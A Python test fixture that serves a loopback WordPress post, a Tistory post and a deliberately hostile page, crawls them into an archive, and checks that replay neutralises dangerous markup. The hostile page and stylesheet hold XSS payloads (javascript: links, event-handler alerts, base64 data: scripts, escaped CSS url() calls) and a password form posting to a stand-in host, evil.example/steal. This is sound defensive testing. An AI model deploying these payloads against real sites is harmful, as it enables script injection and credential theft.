"""A loopback site with a Tistory post, a WordPress post and a hostile page, crawled into an index
with its stylesheet and images archived beside it: what the archived-copy tests replay.

``build_replay_archive`` crawls the site twice with the real ``update`` (the WordPress post is
edited in between, so it has two captures), archives the WordPress theme's stylesheet and its
images through the page catalogue (``update`` archives pages only; ``import`` of a WARC brings
page requisites the same way, tests/test_archived.py checks that path with wget), then stops the
site: replay must not need it.
"""

from __future__ import annotations

import struct
import threading
import urllib.request
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

from indexer.config import load_sources
from indexer.crawl import run_update
from indexer.fetch import Response
from indexer.pagestore import PageStore
from sample.tistory import BASE_URL as SAMPLE_BASE
from search.article import article_id

SAMPLE_POST = Path(__file__).resolve().parents[1] / "sample" / "site" / "101.html"
TISTORY_TITLE = "트럼프의 두 번째 임기, 동맹 정책은 어디로 가나"
WORDPRESS_TITLE = "Slow mornings at the harbour market"
WORDPRESS_EDITED = "Edited: the market moved to Saturdays."
EVIL = "http://evil.example"


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A real PNG of one colour (the browser decodes it; a screenshot shows it)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


WORDPRESS_CSS = """
body { font-family: Georgia, serif; background: #f6f1e7; color: #2b2118; margin: 0; }
.site-header { background: #2b4c3f url("images/header.png") repeat-x; color: #fff; padding: 1rem 2rem; }
.site-title a { color: #fff; text-decoration: none; font-size: 1.6rem; }
.entry-title { font-size: 2.2rem; color: #7a2e12; }
.wp-block-image img { border: 4px solid #7a2e12; }
@import url("http://evil.example/imported.css");
.tracker { background: url("http://evil.example/pixel.png"); }
@font-face { font-family: Spy; src: url("http://evil.example/spy.woff"); }
"""


def wordpress_html(base: str, body: str = "Fresh fish, slow coffee and the same three stalls every week.") -> str:
    """A WordPress post as a block theme writes it: theme stylesheet, jQuery, featured image with
    srcset, comment form, emoji script."""
    return f"""<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8">
<title>{WORDPRESS_TITLE} &#8211; Harbour Notes</title>
<link rel='stylesheet' id='harbour-style-css' href='{base}/wp-content/themes/harbour/style.css?ver=6.4' media='all' />
<link rel='stylesheet' id='print-css' href='{base}/wp-content/themes/harbour/print.css' media='print' />
<script src='{base}/wp-includes/js/jquery/jquery.min.js?ver=3.7.1' id='jquery-core-js'></script>
<script>window._wpemojiSettings = {{"baseUrl":"https://s.w.org/images/core/emoji/14.0.0/72x72/"}};</script>
<link rel="canonical" href="{base}/2025/03/01/harbour-market" />
<meta property="article:published_time" content="2025-03-01T09:00:00+00:00" />
</head>
<body class="post-template-default single single-post">
<header class="site-header"><p class="site-title"><a href="{base}/" rel="home">Harbour Notes</a></p></header>
<main id="main" class="site-main">
<article id="post-42" class="post-42 post type-post status-publish">
<header class="entry-header"><h1 class="entry-title">{WORDPRESS_TITLE}</h1>
<div class="entry-meta"><span class="posted-on">Posted on <time class="entry-date published"
 datetime="2025-03-01T09:00:00+00:00">March 1, 2025</time></span> by <span class="author vcard">Mina Park</span></div>
</header>
<div class="entry-content">
<figure class="wp-block-image size-large"><img width="320" height="120"
 src="{base}/wp-content/uploads/2025/03/market.png" class="wp-image-7" alt="The market stalls"
 srcset="{base}/wp-content/uploads/2025/03/market.png 320w, {base}/wp-content/uploads/2025/03/market-1024.png 1024w"
 sizes="(max-width: 320px) 100vw, 320px" /></figure>
<p>{body}</p>
<p>Read the <a href="{base}/101">earlier post about the election</a> or <a href="/about/">about this blog</a>.</p>
</div>
<footer class="entry-footer"><span class="cat-links">Posted in
<a href="{base}/category/food/" rel="category tag">Food</a></span></footer>
</article>
<div id="comments" class="comments-area"><form action="{base}/wp-comments-post.php" method="post" id="commentform">
<p class="comment-form-comment"><label for="comment">Comment</label>
<textarea id="comment" name="comment"></textarea></p>
<input name="submit" type="submit" id="submit" class="submit" value="Post Comment" /></form></div>
</main>
<script src='{base}/wp-content/plugins/stats/track.js' id='stats-js'></script>
</body>
</html>"""


def hostile_html(base: str) -> str:
    """Everything a replay must neutralise, each marked so a test can look for what survived."""
    return f"""<!doctype html><html><head><meta charset="utf-8">
<title>Hostile page</title>
<base href="{EVIL}/base/">
<meta http-equiv="refresh" content="0; url={EVIL}/refreshed">
<link rel="stylesheet" href="{EVIL}/remote.css">
<style>@import url("{EVIL}/imported.css"); @import "{EVIL}/imported2.css";
.bg {{ background-image: url("{EVIL}/bg.png"); color: green }}
.bg2 {{ background: image-set("{EVIL}/set.png" 1x) }}
.own {{ background: url({base}/not-archived.png) }}
</style>
<script>document.title = "pwned"; alert(1)</script>
</head>
<body onload="alert('onload')">
<h1 class="bg">Hostile page</h1>
<p id="marker" onclick="alert('onclick')" onmouseover="alert('over')"
 style="background:url({EVIL}/inline.png);color:red">Plain text survives.</p>
<a id="js-link" href="javascript:alert('js')">js link</a>
<a id="js-entity" href="java&#x09;script:alert('tab')">js tab</a>
<a id="data-link" href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>
<a id="rel-link" href="/relative/page">relative link</a>
<a id="vb-link" href=" VBScript:msgbox(1)">vb link</a> <a id="js-upper" href="  JaVaScRiPt:alert(2)">upper</a>
<meta http-equiv="refresh" content="0; url={EVIL}/body-refresh">
<link rel="stylesheet" href="{EVIL}/body.css"><link rel="import" href="{EVIL}/import.html">
<style>.esc {{ background: \\75 rl({EVIL}/escaped.png) }} .esc2 {{ background: u\\rl("{EVIL}/escaped2.png") }}
@media screen {{ .m {{ background: url({EVIL}/media.png); color: blue }} }}
@supports (display: grid) {{ .s {{ list-style-image: url("{EVIL}/list.png") }} }}</style>
<button formaction="{EVIL}/formaction">press</button>
<img srcset="data:text/html;base64,PHNjcmlwdD4= 1x">
<form id="form" action="{EVIL}/steal" method="post"><input name="password" type="password"><button>Send</button></form>
<iframe id="frame" src="{EVIL}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<frameset><frame src="{EVIL}/frame2"></frameset>
<object data="{EVIL}/movie.swf"><param name="movie" value="{EVIL}/movie.swf"></object>
<embed src="{EVIL}/embed.swf">
<svg id="svg"><script>alert('svg')</script><image href="{EVIL}/svg.png"/></svg>
<img id="remote-img" src="{EVIL}/img.png" srcset="{EVIL}/img-2x.png 2x" onerror="alert('onerror')">
<img id="own-img" src="{base}/not-archived.png">
<img id="data-svg" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<picture><source srcset="{EVIL}/pic.webp" type="image/webp"><img src="{EVIL}/pic.png"></picture>
<video src="{EVIL}/video.mp4" poster="{EVIL}/poster.png"></video>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<div style="width:10px;height:10px;background-image:url('{EVIL}/div.png')"></div>
<noscript><img src="{EVIL}/noscript.png"></noscript>
<template><script>alert('template')</script></template>
</body></html>"""


class ReplaySite(ThreadingHTTPServer):
    """Pages by path with their content type; ``requests`` lists every path asked for."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.base_url = f"http://127.0.0.1:{self.server_address[1]}"
        self.pages: dict[str, tuple[str, bytes]] = {}
        self.requests: list[str] = []
        self.lock = threading.Lock()

    def set(self, path: str, content_type: str, body: bytes | str) -> None:
        with self.lock:
            self.pages[path] = (content_type, body.encode("utf-8") if isinstance(body, str) else body)

    def start(self) -> ReplaySite:
        threading.Thread(target=self.serve_forever, name="replay-site", daemon=True).start()
        return self

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


class _Handler(BaseHTTPRequestHandler):
    server: ReplaySite  # type: ignore[assignment]
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        """Quiet: tests read ``server.requests``."""

    def do_GET(self) -> None:  # noqa: N802 (http.server naming)
        path = urlsplit(self.path).path
        with self.server.lock:
            self.server.requests.append(path)
            found = self.server.pages.get(path)
        if path == "/robots.txt":
            found = ("text/plain", f"User-agent: *\nAllow: /\nSitemap: {self.server.base_url}/sitemap.xml\n".encode())
        elif path == "/sitemap.xml":
            locs = "".join(f"<url><loc>{self.server.base_url}{p}</loc></url>" for p in POST_PATHS)
            found = ("application/xml", f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{locs}</urlset>'
                     .encode())
        content_type, body = found or ("text/plain", b"not found")
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


TISTORY_PATH, WORDPRESS_PATH, HOSTILE_PATH = "/101", "/2025/03/01/harbour-market", "/entry/hostile"
POST_PATHS = (TISTORY_PATH, WORDPRESS_PATH, HOSTILE_PATH)
RESOURCES = {
    "/wp-content/themes/harbour/style.css": ("text/css", WORDPRESS_CSS.encode()),
    "/wp-content/themes/harbour/images/header.png": ("image/png", png(8, 8, (43, 76, 63))),
    "/wp-content/uploads/2025/03/market.png": ("image/png", png(320, 120, (200, 120, 40))),
}


@dataclass(frozen=True)
class ReplayArchive:
    """What a test needs to know about the built archive (the site itself is stopped)."""

    root: Path
    base_url: str
    tistory_id: str
    wordpress_id: str
    hostile_id: str
    first_wordpress_capture: datetime


def _archive_resource(store: PageStore, url: str) -> None:
    with urllib.request.urlopen(url, timeout=5) as answer:  # noqa: S310 - a loopback fixture
        body = answer.read()
        headers = {k.lower(): v for k, v in answer.headers.items()}
    resp = Response(url, 200, headers, body, requested_url=url, reason="OK",
                    raw_headers=[("Content-Type", headers["content-type"])], fetched_at=datetime.now(UTC))
    store.add(resp, role="resource", source="replay")


def build_replay_archive(root: Path) -> ReplayArchive:
    """Crawl the site twice into ``root`` (see the module doc) and stop it."""
    site = ReplaySite().start()
    base = site.base_url
    try:
        site.set(TISTORY_PATH, "text/html; charset=utf-8",
                 SAMPLE_POST.read_text(encoding="utf-8").replace(SAMPLE_BASE, base))
        site.set(WORDPRESS_PATH, "text/html; charset=UTF-8", wordpress_html(base))
        site.set(HOSTILE_PATH, "text/html; charset=utf-8", hostile_html(base))
        for path, (kind, body) in RESOURCES.items():
            site.set(path, kind, body)
        config = root.parent / f"{root.name}-sources.toml"
        config.write_text(f'[[source]]\nname = "replay"\nurl = "{base}/"\nkind = "wordpress"\n'
                          "requests_per_second = 100\ntimeout = 2.0\nretries = 0\nallow_private_network = true\n",
                          encoding="utf-8")
        sources = load_sources(config)
        run_update(sources, root, lambda _message: None)
        first = datetime.now(UTC)
        site.set(WORDPRESS_PATH, "text/html; charset=UTF-8", wordpress_html(base, WORDPRESS_EDITED))
        run_update(sources, root, lambda _message: None)
        store = PageStore(root)
        try:
            for path in RESOURCES:  # as the page names them (the theme's stylesheet with its ?ver=)
                _archive_resource(store, base + path + ("?ver=6.4" if path.endswith(".css") else ""))
        finally:
            store.close()
    finally:
        site.stop()
    return ReplayArchive(root, base, article_id(base + TISTORY_PATH), article_id(base + WORDPRESS_PATH),
                         article_id(base + HOSTILE_PATH), first)
